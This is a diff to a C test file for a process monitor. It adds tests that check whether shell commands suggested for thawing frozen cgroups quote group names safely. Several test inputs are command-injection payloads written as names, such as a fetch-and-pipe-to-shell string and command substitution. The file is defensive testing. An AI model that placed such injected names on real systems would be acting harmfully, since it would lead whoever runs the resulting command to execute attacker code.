@@ -463,7 +463,7 @@ static void check_frozen(char *root, const char *value, const char *file)
     const AiotopIdentity process = { 7, PROC_TREE_START };
     AiotopHalt halt = aiotop_halted_find(root, &process);
     g_autofree char *thaw =
-        g_strdup_printf("echo %s > %s/cg/%s", value, root, file);
+        g_strdup_printf("echo %s > '%s/cg/%s'", value, root, file);
 
     g_assert_cmpint(halt.kind, ==,
                     value ? AIOTOP_HALT_FROZEN : AIOTOP_HALT_NONE);
@@ -497,6 +497,58 @@ static void test_frozen_of_old(void)
     proc_tree_write(root, "cg/a/freezer.state", "FROZEN\n");
     proc_tree_write(root, "cg/a/freezer.self_freezing", "1\n");
     check_frozen(root, "THAWED", "a/freezer.state");
+    proc_tree_free(root);
+}
+
+/* In a group of this name that is frozen, and by itself if @by_itself */
+static void check_thaw(const char *name, bool by_itself, const char *quoted)
+{
+    g_autofree char *line = g_strdup_printf("0::/%s\n", name);
+    g_autofree char *events = g_strdup_printf("cg/%s/cgroup.events", name);
+    g_autofree char *freeze = g_strdup_printf("cg/%s/cgroup.freeze", name);
+    const AiotopIdentity process = { 7, PROC_TREE_START };
+    char *root = grouped_process("cgroup2", "rw", line);
+    g_autofree char *thaw =
+        g_strdup_printf("echo 0 > '%s/cg/%s/cgroup.freeze'", root, quoted);
+    AiotopHalt halt;
+
+    proc_tree_write(root, events, "populated 1\nfrozen 1\n");
+    proc_tree_write(root, freeze, by_itself ? "1\n" : "0\n");
+    halt = aiotop_halted_find(root, &process);
+    g_assert_cmpint(halt.kind, ==, AIOTOP_HALT_FROZEN);
+    g_assert_cmpstr(halt.thaw, ==, quoted ? thaw : "");
+    proc_tree_free(root);
+}
+
+/* Who may make a group names it, and somebody else runs the command */
+static void test_thaw_is_quoted(void)
+{
+    g_autofree char *longest = g_strnfill(240, 'a');
+    g_autofree char *deep = g_strconcat(longest, "/", longest, NULL);
+
+    check_thaw("machine-qemu\\x2d1.scope", true, "machine-qemu\\x2d1.scope");
+    check_thaw("x;curl h|sh;#", true, "x;curl h|sh;#");
+    check_thaw("$(id)`id`", true, "$(id)`id`");
+    check_thaw("a'b", true, "a'\\''b");
+    check_thaw("a\x1b[2Jb", true, NULL);
+    check_thaw("a\tb", true, NULL);
+    check_thaw("caf\xc3\xa9", true, NULL);
+    check_thaw(deep, true, NULL);
+}
+
+static void test_thaw_of_no_group(void)
+{
+    check_thaw("a", false, NULL);
+}
+
+/* A container has the group at the root of what it sees */
+static void test_thaw_of_root(void)
+{
+    char *root = grouped_process("cgroup2", "rw", "0::/\n");
+
+    proc_tree_write(root, "cg/cgroup.events", "frozen 1\n");
+    proc_tree_write(root, "cg/cgroup.freeze", "1\n");
+    check_frozen(root, "0", "cgroup.freeze");
     proc_tree_free(root);
 }
 
@@ -537,6 +589,9 @@ int main(int argc, char **argv)
     g_test_add_func("/procfs/halted-threads", test_halted_threads);
     g_test_add_func("/procfs/frozen", test_frozen);
     g_test_add_func("/procfs/frozen-of-old", test_frozen_of_old);
+    g_test_add_func("/procfs/thaw-is-quoted", test_thaw_is_quoted);
+    g_test_add_func("/procfs/thaw-of-no-group", test_thaw_of_no_group);
+    g_test_add_func("/procfs/thaw-of-root", test_thaw_of_root);
     g_test_add_func("/procfs/fd", test_fd);
     return g_test_run();
 }
